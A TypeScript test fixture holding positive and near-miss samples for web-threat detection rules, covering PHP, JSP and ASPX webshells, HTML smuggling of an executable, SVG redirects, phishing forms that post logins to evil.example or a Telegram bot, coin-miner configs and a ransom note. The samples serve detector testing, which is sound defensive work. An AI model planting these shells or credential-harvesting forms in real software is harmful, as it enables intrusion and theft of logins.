import type { RuleSample } from "./rule-samples.ts";
import { programStub, text, wide } from "./sample-text.ts";

const program = programStub().toString("base64");
const picture = Buffer.from("89504e470d0a1a0a", "hex").toString("base64");
const svg = (inside: string) =>
  text(`<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`);
const login = '<input name="u"><input type="pa·ssword" name="p">';
const note = [
  "All your important files have been encr·ypted.",
  "To get the decryption key pay 0.5 Bit·coin.",
  "Write to us with the Tor Browser.",
  "Do not rename the files or they will be lost.",
];

export const webSamples: Readonly<Record<string, RuleSample>> = {
  webshell_php: {
    found: [
      text("<?php ev·al($_PO·ST['x']); ?>"),
      text("<?php @sys·tem(base64_decode($_GE·T['c'])); ?>"),
      text("<?= `$_GE·T[0]` ?>"),
      text("<?php $_GE·T['f']($_GE·T['a']); ?>"),
      text("<?php preg_re·place('/x/e', $_PO·ST['c'], 'x'); ?>"),
    ],
    nearMiss: [
      text("<?php echo htmlspecialchars($_·POST['x']); ?>"),
      text("<?php exec('git pull'); $page = $_·GET['page']; ?>"),
      text("Never write eval($_·POST['x']) in your code."),
    ],
  },
  webshell_php_packed: {
    found: [text("<?php ev·al(gzin·flate(base64_·decode('S0oEAA=='))); ?>")],
    nearMiss: [text("<?php $image = base64_decode($row['image']); ?>")],
  },
  webshell_jsp: {
    found: [
      text(
        '<%@ page import="java.io.*" %><% Runtime.getRun·time().ex·ec(request.getPara·meter("c")); %>',
      ),
    ],
    nearMiss: [
      text('<% out.println(request.ge·tParameter("name")); %>'),
      text('Process p = Runtime.ge·tRuntime().exec("ls"); request.ge·tParameter("c");'),
    ],
  },
  webshell_aspx: {
    found: [
      text('<%@ Page Language="Jscript"%><%ev·al(Requ·est.Item["x"],"unsafe");%>'),
      text('<% ex·ecute requ·est("x") %>'),
      text('<%@ Page Language="C#" %><% Pro·cess.Start("cmd.exe", "/c " + Requ·est["c"]); %>'),
    ],
    nearMiss: [
      text('<%@ Page Language="C#" %><%= Re·quest["name"] %>'),
      text('Pr·ocess.Start("cmd.exe", "/c dir"); Re·quest["c"];'),
    ],
  },
  html_smuggling: {
    found: [
      text(
        `<script>var b = a·tob("${program}"); navigator.msSave·OrOpenBlob(new Blob([b]), "a.exe")</·script>`,
      ),
      text(
        `<script>x = a·tob("${program}"); a.href = URL.create·ObjectURL(x); a.down·load = "a.exe"; a.click()</·script>`,
      ),
      text(
        `<a hr·ef="data:application/octet-stream;base64,${program}" download="a.exe">invoice</a>`,
      ),
    ],
    nearMiss: [
      text(`<img src="data:image/png;base64,${picture}">`),
      text(
        '<script>a.href = URL.createObjectURL(new Blob([csv])); a.download = "t.csv"; atob(x)</·script>',
      ),
    ],
  },
  svg_redirects: {
    found: [
      svg('<scr·ipt>window.loca·tion = "https://evil.example/"</·script>'),
      svg('<rect onl·oad="ev·al(x)"/>'),
      {
        bytes: wide('<svg ><scr·ipt>top.loca·tion.href = a·tob("aHR0cA==")</·script></svg>').bytes,
      },
    ],
    nearMiss: [
      svg('<rect width="3" height="4" onclick="toggle(1)"/>'),
      svg('<a href="https://good.example/"><text>location = here</text></a>'),
    ],
  },
  svg_script: {
    found: [svg("<scr·ipt>animate()</·script>")],
    nearMiss: [
      svg("<title>The script of the play</title>"),
      text("<p>no picture</p><script>x()</·script>"),
      text("<!doctype html><html><svg ></svg><script>x()</·script></html>"),
    ],
  },
  phishing_form_to_bot: {
    found: [
      text(
        `<f·orm>${login}</form><script>fetch("https://api.tele·gram.org/bot1:A/sendMessage")</·script>`,
      ),
    ],
    nearMiss: [
      text(`<f·orm action="/login">${login}</form>`),
      text("<p>Post to https://ap·i.telegram.org/bot1:A/sendMessage with your token.</p>"),
    ],
  },
  phishing_form_of_known_service: {
    found: [
      text(
        `<title>Sign in to Micro·soft</title><f·orm action="https://evil.example/x.php">${login}</form>`,
      ),
      text(
        `<title>DHL Tracking</title>${login}<script>$.ajax({ url: "https://evil.example/p.php" })</·script>`,
      ),
    ],
    nearMiss: [
      text(`<title>Sign in to Microsoft</title><f·orm action="/common/login">${login}</form>`),
      text(`<title>Our shop</title><f·orm action="https://shop.example/login.php">${login}</form>`),
    ],
  },
  coin_miner: {
    found: [
      text(
        '{"pools":[{"url":"strat·um+tcp://pool.example:3333","coin": "monero"}],"donate-·level": 1}',
      ),
      text("./x --donate-·level 1 -o strat·um+tcp://pool.example:3333"),
      text(
        '<script>var m = new Coin·Hive.Anony·mous("abcdefghijklmnopqrstuvwx"); m.start();</·script>',
      ),
    ],
    nearMiss: [
      text("Firewalls should refuse st·ratum+tcp://pool.example:3333"),
      text('{"coin": "heads", "donate-level": 1}'),
    ],
  },
  ransom_note: {
    found: [text(note.join("\n")), wide(note.join("\r\n"))],
    nearMiss: [
      text(
        "In May all their files were en·crypted. The attackers asked for a payment in Bi·tcoin.",
      ),
      text(
        "Your files have been en·crypted with your key before upload; recover your files with the Tor Browser.",
      ),
    ],
  },
};
